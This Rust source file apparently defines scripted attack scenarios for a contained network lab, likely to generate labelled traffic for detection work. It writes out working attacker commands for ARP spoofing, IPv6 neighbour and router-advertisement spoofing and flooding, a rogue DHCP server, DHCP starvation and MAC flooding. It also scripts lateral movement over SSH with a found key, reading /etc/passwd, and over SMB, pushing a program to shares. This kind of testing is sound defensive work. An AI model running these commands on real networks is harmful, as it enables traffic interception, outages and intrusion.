//! Attacks from within: on layer 2, on autoconfiguration, and from host to host.

use super::super::recipe::{
    ATTACK, Check, Ends, Mark, Recipe, Variant, inside, on, outside, variant,
};
use super::media::SMBD;
use super::names::DHCPD;
use super::services::{NGINX, SSHD};

const CLAIMS: Recipe = Recipe {
    roles: &[
        inside("server", 1),
        inside("client", 2),
        inside("attacker", 1),
        outside("far", 1),
    ],
    marks: &[Mark::Claims("attacker")],
    variants: ALONE_AND_BUSY,
    limit_s: 70,
    ..ATTACK
};

const ALONE_AND_BUSY: &[Variant] = &[variant("alone", &[]), variant("busy", &[]).busy()];

/// The victims' own traffic while somebody stands between them.
const TALK: &str = "timeout 40 ping -q -i 1 $ROUTER; true";
const BROWSE: &str = "repeat 12 3 curl -s --max-time 5 -o /dev/null http://$FAR_URL/10k; true";

pub const RECIPES: &[Recipe] = &[
    Recipe {
        name: "arpspoof_router",
        about: "arpspoof takes the router's place for one client, both ways, and passes on",
        attack: "arp_mitm",
        group: "dsniff",
        packages: &["dsniff", "curl", "iputils-ping"],
        services: &[NGINX.on("far")],
        steps: &[
            on("client", TALK),
            on("client", BROWSE),
            on("attacker", "sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=0 net.ipv4.conf.eth0.send_redirects=0
                timeout -s INT 35 arpspoof -i eth0 -r -t $CLIENT1 $ROUTER")
                .after(4)
                .ends(Ends::Anyhow),
        ],
        checks: &[Check::Packets("arp", 20)],
        ..CLAIMS
    },
    Recipe {
        name: "nd_spoof",
        about: "fake_advertise6 claims a server's IPv6 address",
        attack: "nd_spoof",
        group: "thc-ipv6",
        packages: &["thc-ipv6", "iputils-ping"],
        steps: &[
            on("client", "timeout 40 ping -q -i 1 $SERVER6; true"),
            on("attacker", "timeout -s INT 30 atk6-fake_advertise6 -w 2 eth0 $SERVER6 ff02::1 $ATTACKER_MAC").after(4).ends(Ends::Anyhow),
        ],
        checks: &[Check::Packets("icmp6", 10)],
        ..CLAIMS
    },
    Recipe {
        name: "nd_answers_all",
        about: "parasite6 answers every neighbour solicitation",
        attack: "nd_spoof",
        group: "thc-ipv6",
        packages: &["thc-ipv6", "iputils-ping"],
        steps: &[
            on("client", "sleep 8; repeat 6 1 sh -c 'ip -6 neigh flush dev eth0; ping -q -c 3 $SERVER6; ping -q -c 2 $ROUTER6'; true"),
            on("attacker", "timeout -s INT 35 atk6-parasite6 eth0 $ATTACKER_MAC").after(2).ends(Ends::Anyhow),
        ],
        checks: &[Check::Packets("icmp6", 4)],
        ..CLAIMS
    },
    Recipe {
        name: "ra_rogue",
        about: "fake_router6 announces itself as the router",
        attack: "ra_spoof",
        group: "thc-ipv6",
        packages: &["thc-ipv6", "iputils-ping"],
        steps: &[
            on("client", "timeout 40 ping -q -i 1 $SERVER6; true"),
            on("attacker", "timeout -s INT 30 atk6-fake_router6 eth0 2001:db8:bad::/64").after(4).ends(Ends::Anyhow),
        ],
        checks: &[Check::Packets("icmp6", 4)],
        ..CLAIMS
    },
    Recipe {
        name: "ra_flood",
        about: "flood_router6 announces a thousand routers",
        attack: "ra_flood",
        group: "thc-ipv6",
        packages: &["thc-ipv6", "iputils-ping"],
        steps: &[
            on("client", "timeout 20 ping -q -i 1 $SERVER6; true"),
            on("attacker", "timeout -s KILL 0.3 atk6-flood_router6 eth0").after(4).ends(Ends::Anyhow),
        ],
        checks: &[Check::Packets("icmp6", 100)],
        ..CLAIMS
    },
    Recipe {
        name: "ra_radvd",
        about: "radvd on somebody's own machine offers a prefix and itself as the router",
        attack: "ra_spoof",
        group: "radvd",
        packages: &["radvd", "iputils-ping"],
        steps: &[
            on("client", "timeout 40 ping -q -i 1 $SERVER6; true"),
            on("attacker", "sysctl -qw net.ipv6.conf.all.forwarding=1
                echo 'interface eth0 { AdvSendAdvert on; MaxRtrAdvInterval 4; MinRtrAdvInterval 3; AdvDefaultPreference high; prefix 2001:db8:bad:1::/64 { AdvOnLink on; AdvAutonomous on; }; };' >conf
                timeout 30 radvd -n -m stderr -p pid -C conf")
                .after(3)
                .ends(Ends::Anyhow),
        ],
        checks: &[Check::Packets("icmp6", 5)],
        ..CLAIMS
    },
    Recipe {
        name: "dhcp_rogue",
        about: "a second DHCP server offers addresses and itself as the router",
        attack: "rogue_dhcp",
        group: "dnsmasq",
        packages: &["dnsmasq", "udhcpc"],
        roles: &[inside("server", 1), inside("client", 8), inside("attacker", 1)],
        services: &[DHCPD.on("server")],
        steps: &[
            on("client", "sleep $((4 + NUMBER)); udhcpc -i eth0 -n -q -f -t 3 -T 2 -s /bin/true; true"),
            on("attacker", "base=${LAN_BASE%.*}
                exec dnsmasq -k --user=root --port=0 --pid-file= --log-facility=- --interface=eth0 --dhcp-authoritative --no-ping \\
                    --dhcp-leasefile=leases --dhcp-range=$base.60,$base.90,1h --dhcp-option=3,$SELF --dhcp-option=6,$SELF")
                .ends(Ends::WithTheScene),
        ],
        checks: &[Check::Packets("udp/67", 3)],
        ..CLAIMS
    },
    Recipe {
        name: "dhcp_starvation",
        about: "dhcpstarv takes every address that the server has",
        attack: "dhcp_starvation",
        group: "dhcpstarv",
        packages: &["dhcpstarv", "udhcpc"],
        roles: &[inside("server", 1), inside("client", 3), inside("attacker", 1)],
        services: &[DHCPD.on("server")],
        steps: &[
            on("client", "sleep $((NUMBER * 9)); udhcpc -i eth0 -n -q -f -t 3 -T 2 -s /bin/true; true"),
            on("attacker", "timeout -s INT 35 dhcpstarv -i eth0").after(2).ends(Ends::Anyhow),
        ],
        checks: &[Check::Packets("udp/67", 50)],
        ..CLAIMS
    },
    Recipe {
        name: "mac_flood",
        about: "macof fills a switch's table with stations that don't exist",
        attack: "mac_flood",
        group: "dsniff",
        packages: &["dsniff"],
        marks: &[Mark::Forged("attacker")],
        steps: &[on("attacker", "macof -i eth0 -n 8000 >/dev/null 2>&1; true")],
        checks: &[Check::Packets("tcp", 5_000)],
        ..CLAIMS
    },
    Recipe {
        name: "ssh_chain",
        about: "somebody goes from host to host over SSH with a key that he found, and looks around",
        attack: "lateral_ssh_chain",
        group: "openssh",
        packages: &["openssh-client"],
        roles: &[inside("server", 5), inside("attacker", 1)],
        marks: &[Mark::Of("attacker"), Mark::Service("server", "server", 22)],
        services: &[SSHD.on("server")],
        steps: &[on(
            "attacker",
            "ask='id; uname -a; cat /etc/passwd'
            on_host $SERVER1 \"$ask\"
            for host in $SERVERS; do on_host $host 'mkdir -p .ssh; cat >.ssh/id; chmod 600 .ssh/id' <$SCRATCH/key; done
            options='-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -i .ssh/id'
            sleep $GAP; on_host $SERVER1 \"ssh $options ops@$SERVER2 '$ask'\"
            sleep $GAP; on_host $SERVER1 \"ssh $options ops@$SERVER2 \\\"ssh $options ops@$SERVER3 '$ask'\\\"\"
            sleep $GAP; on_host $SERVER1 \"ssh $options ops@$SERVER4 '$ask'\"; on_host $SERVER1 \"ssh $options ops@$SERVER5 '$ask'\"",
        )],
        variants: &[variant("quick", &[("GAP", "1")]), variant("busy", &[("GAP", "6")]).busy()],
        checks: &[Check::Packets("tcp/22", 200)],
        ..ATTACK
    },
    Recipe {
        name: "smb_chain",
        about: "somebody puts a program on share after share, with a password that he found",
        attack: "lateral_smb_chain",
        group: "smbclient",
        packages: &["smbclient"],
        roles: &[inside("server", 5), inside("attacker", 1)],
        services: &[SMBD.on("server")],
        steps: &[on(
            "attacker",
            "sized tool.exe 200000
            for host in $SERVERS; do
                smbclient -g -L //$host -U ops%$PASSWORD
                smbclient //$host/share -U ops%$PASSWORD -c 'ls; put tool.exe; ls'
                sleep $GAP
            done",
        )],
        variants: &[variant("quick", &[("GAP", "1")]), variant("busy", &[("GAP", "6")]).busy()],
        checks: &[Check::Packets("tcp/445", 200)],
        ..ATTACK
    },
];
